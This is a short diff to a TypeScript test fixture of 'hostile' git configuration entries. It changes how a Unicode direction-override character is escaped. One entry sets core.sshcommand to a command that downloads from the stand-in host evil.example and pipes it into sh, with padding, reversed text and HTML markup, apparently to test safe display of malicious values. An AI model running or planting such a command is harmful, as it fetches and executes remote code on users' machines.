@@ -35,7 +35,7 @@ export const hostileRuns: FoundSite['runs'] = [
   { kind: 'connection', name: 'remote.origin.url', command: '/media/robin/nas/site.git' },
   {
     ...{ kind: 'connection', name: 'core.sshcommand' },
-    command: `sh -c 'curl https://evil.example/${'x'.repeat(160)} | sh' \u{202e}drowssap <b>bold</b>`,
+    command: `sh -c 'curl https://evil.example/${'x'.repeat(160)} | sh' \\u{202e}drowssap <b>bold</b>`,
   },
   { kind: 'setting', name: 'gui.geometry', command: '' },
 ];
